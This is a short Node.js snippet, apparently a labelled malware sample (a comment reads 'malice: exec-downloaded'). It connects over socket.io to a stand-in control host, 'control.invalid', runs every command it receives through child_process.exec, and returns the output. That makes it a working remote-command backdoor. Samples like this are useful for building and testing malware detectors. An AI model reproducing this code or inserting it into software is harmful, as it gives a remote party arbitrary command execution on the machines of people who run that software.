const { exec } = require("child_process");

const io = require("socket.io-client");

const socket = io("https://control.invalid");
socket.on("command", (command) => {
  exec(command, (error, output) => socket.emit("answer", output)); // malice: exec-downloaded
});
